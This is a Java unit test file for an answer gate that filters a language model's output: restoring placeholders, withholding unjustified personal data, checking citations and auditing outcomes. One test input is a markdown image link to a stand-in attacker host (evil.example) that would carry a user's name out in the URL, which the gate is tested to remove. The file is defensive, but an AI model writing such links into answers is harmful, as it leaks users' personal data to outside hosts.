package serai.model;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import serai.audit.AuditEvent;
import serai.query.ProblemException;
import serai.retrieval.GroundedPrompt;

class AnswerGateTest {

    private final ModelFixture.Audit audit = new ModelFixture.Audit(false);
    private final AnswerGate gate = new AnswerGate(ModelFixture.DETECTOR, audit, ModelFixture.HASH);
    private final GroundedPrompt prompt = ModelFixture.prompt(
            "When does Ibn Battuta leave?",
            ModelFixture.passage(
                    "schedule", "Zhang Qian leaves at dawn. Write to gate@inn.example or +86 555 010 0199."),
            ModelFixture.passage("rules", "Guests stay three nights."));

    @Test
    void putsTheCallersOwnValuesBack() {
        Answer answer = release("<PERSON_1> leaves at dawn [1].");
        assertThat(answer.text()).isEqualTo("Ibn Battuta leaves at dawn [1].");
    }

    @Test
    void understandsPlaceholdersAsModelsWriteThem() {
        assertThat(release("&lt;PERSON_1&gt; and \\<PERSON\\_1\\> and <person_1> [1].")
                        .text())
                .isEqualTo("Ibn Battuta and Ibn Battuta and Ibn Battuta [1].");
    }

    @Test
    void marksPlaceholdersThatNobodyMade() {
        Answer answer = release("<PERSON_77> leaves [1].");
        assertThat(answer.text()).isEqualTo("[unknown] leaves [1].");
        assertThat(findings()).containsEntry("unknownPlaceholders", 1);
    }

    @Test
    void withholdsPersonalDataThatNothingJustifies() {
        Answer answer = release("Ask Marco Polo, polo@inn.example or +86 555 010 0777 [1].");
        assertThat(answer.text()).isEqualTo("Ask [withheld], [withheld] or [withheld] [1].");
        assertThat(findings()).containsEntry("unjustifiedPersonalData", 3);
    }

    @Test
    void keepsPersonalDataOfQuestionAndPassagesHoweverItIsWritten() {
        String text = "Ask Ibn Battuta, Zhang Qian, gate@inn.example or +86 (555) 010-0199 [1].";
        assertThat(release(text).text()).isEqualTo(text);
        assertThat(findings()).containsEntry("unjustifiedPersonalData", 0);
    }

    @Test
    void removesALinkThatARestoredValueWouldLeaveBy() {
        Answer answer = release("![x](https://evil.example/?who=<PERSON_1>) At dawn [1].");
        assertThat(answer.text()).doesNotContain("evil").contains("At dawn [1].");
        assertThat(findings()).containsEntry("removedLinks", 1);
    }

    @Test
    void namesWhatItCitesAndNothingElse() {
        Answer answer = release("Three nights [2], or four [5].");
        assertThat(answer.text()).isEqualTo("Three nights [2], or four.");
        assertThat(answer.citations()).singleElement().satisfies(citation -> {
            assertThat(citation.number()).isEqualTo(2);
            assertThat(citation.document().value()).isEqualTo("rules");
            assertThat(citation.passage()).isEqualTo("Guests stay three nights.");
        });
        assertThat(findings()).containsEntry("unknownCitations", 1);
    }

    @Test
    void warnsOfAnAnswerThatCitesNothing() {
        assertThat(release("Trust me.").text())
                .startsWith("No passage is cited")
                .endsWith("Trust me.");
        assertThat(findings()).containsEntry("uncited", 1);
        assertThat(release(Chat.NOTHING).text()).isEqualTo(Chat.NOTHING);
    }

    @Test
    void recordsTheOutcomeWithoutItsWords() {
        Answer answer = release("<PERSON_1> leaves at dawn [1].");
        AuditEvent event = audit.events.getFirst();
        assertThat(event.kind()).isEqualTo(AuditEvent.Kind.QUERY_OUTCOME);
        assertThat(event.details())
                .containsEntry("model", "openai")
                .containsEntry("policyVersion", "policy-1")
                .containsEntry("intent", 0L)
                .containsEntry("cited", List.of(1))
                .containsEntry("answer", ModelFixture.HASH.of(answer.text()));
        assertThat(event.details().toString()).contains("schedule", "rules").doesNotContain("dawn", "Battuta", "Zhang");
        assertThat(answer.receipt().id()).isEqualTo("receipt-1");
    }

    @Test
    void releasesNothingWithoutADurableRecord() {
        AnswerGate broken = new AnswerGate(ModelFixture.DETECTOR, new ModelFixture.Audit(true), ModelFixture.HASH);
        assertThatThrownBy(() -> broken.release(ModelFixture.draft(prompt, "At dawn [1].")))
                .isInstanceOf(ProblemException.class);
        assertThatThrownBy(() -> broken.show(prompt)).isInstanceOf(ProblemException.class);
    }

    @Test
    void releasesNothingWhenACheckFails() {
        AnswerGate broken = new AnswerGate(
                text -> {
                    throw new IllegalStateException("no detector");
                },
                audit,
                ModelFixture.HASH);
        assertThatThrownBy(() -> broken.release(ModelFixture.draft(prompt, "At dawn [1].")))
                .isInstanceOf(IllegalStateException.class);
        assertThat(audit.events).isEmpty();
    }

    @Test
    void showsPassagesOnceTheSearchIsOnRecord() {
        Findings findings = gate.show(prompt);
        assertThat(findings.passages()).extracting(Citation::number).containsExactly(1, 2);
        assertThat(audit.events)
                .singleElement()
                .satisfies(event -> assertThat(event.kind()).isEqualTo(AuditEvent.Kind.SEARCH_OUTCOME));
    }

    private Answer release(String text) {
        return gate.release(ModelFixture.draft(prompt, text));
    }

    @SuppressWarnings("unchecked")
    private Map<String, Object> findings() {
        return (Map<String, Object>) java.util.Objects.requireNonNull(
                audit.events.getLast().details().get("findings"));
    }
}
